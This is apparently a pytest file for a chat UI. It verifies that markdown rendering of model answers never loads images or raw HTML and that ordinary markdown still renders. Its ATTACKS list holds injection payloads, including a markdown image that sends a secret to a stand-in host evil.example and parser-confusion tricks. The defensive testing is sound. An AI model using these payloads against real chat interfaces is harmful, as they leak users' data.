"""Model output never makes a browser fetch anything, and ordinary markdown still renders.

Each answer is rendered by a real CommonMark renderer with GFM tables (markdown-it, as the chat's
renderer would) and the HTML is inspected: no <img>, no raw tag from the answer.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from minigpt4_ui.app.answer_text import code_block, markdown

RENDER = MarkdownIt("commonmark", {"html": True}).enable("table")
# Tags the renderer itself produces from markdown; anything else came from the answer.
MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "h1", "h2", "h3",
                 "blockquote", "br", "hr", "table", "thead", "tbody", "tr", "th", "td"}

ATTACKS = [
    "Here: ![](http://evil.example/leak?q=secret)",
    "![a photo](http://evil.example/x.png \"title\")",
    "![ref][r]\n\n[r]: http://evil.example/x.png",
    "<img src=http://evil.example/x.png>",
    "<IMG SRC='http://evil.example/x.png'>",
    "text <picture><source srcset=http://evil.example/x></picture>",
    "<video poster=http://evil.example/p.png></video>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<div>\n<img src=http://evil.example/x.png>\n</div>",
    "``<img src=http://evil.example/x.png>`",  # an unmatched run: not code to markdown
    "\\`<img src=http://evil.example/x.png>`",  # an escaped backtick opens nothing
    "```a`b\n<img src=http://evil.example/x.png>\n```",  # not a fence: its info has a backtick
    "# `x\n<img src=http://evil.example/x.png>`",  # a span cannot leave its heading
    "| a | b |\n|---|---|\n| `x | <img src=http://evil.example/x.png> | y` |",  # cells split first
    "`a\n\n<img src=http://evil.example/x.png>\n\n`",
    "> ```\n<img src=http://evil.example/x.png>",
    "    ```\n<img src=http://evil.example/x.png>\n```",
    "```\ncode\n```\n<img src=http://evil.example/x.png>",
]


def _tags(html: str) -> set[str]:
    return {tag.lower() for tag in re.findall(r"<([A-Za-z][A-Za-z0-9]*)", html)}


@pytest.mark.parametrize("answer", ATTACKS)
def test_images_and_html_in_answers_never_render(answer):
    html = RENDER.render(markdown(answer))
    assert "<img" not in html.lower()
    assert _tags(html) <= MARKDOWN_TAGS, html


def test_a_markdown_image_becomes_a_plain_link():
    html = RENDER.render(markdown("See ![the cat](https://example.com/cat.png)."))
    assert html == '<p>See <a href="https://example.com/cat.png">🖼 the cat</a>.</p>\n'


def test_raw_html_is_shown_as_text():
    assert RENDER.render(markdown("Use <b>bold</b>")) == "<p>Use &lt;b&gt;bold&lt;/b&gt;</p>\n"


ORDINARY = [
    ("- one\n- **two**\n- _three_", "<ul>\n<li>one</li>\n<li><strong>two</strong></li>\n<li><em>three</em></li>\n</ul>\n"),
    ("1. first\n2. second", "<ol>\n<li>first</li>\n<li>second</li>\n</ol>\n"),
    ("Call `print(\"<hi>\")` now", "<p>Call <code>print(&quot;&lt;hi&gt;&quot;)</code> now</p>\n"),
    ("```html\n<img src=x.png>\n```", "<pre><code class=\"language-html\">&lt;img src=x.png&gt;\n</code></pre>\n"),
    ("a > b and 3 < 4", "<p>a &gt; b and 3 &lt; 4</p>\n"),
    ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
    ("[Replicate](https://replicate.com)", "<p><a href=\"https://replicate.com\">Replicate</a></p>\n"),
]


@pytest.mark.parametrize("answer, html", ORDINARY)
def test_ordinary_markdown_renders_as_before(answer, html):
    assert RENDER.render(markdown(answer)) == RENDER.render(answer) == html


def test_a_streaming_fence_keeps_its_code_as_written():
    assert markdown("Here:\n```python\nif a < b:") == "Here:\n```python\nif a < b:"


def test_logs_cannot_close_their_code_block():
    block = code_block("loading\n```\n<img src=http://evil.example/x.png>")
    html = RENDER.render(block)
    assert html.startswith("<pre><code>") and "<img" not in html
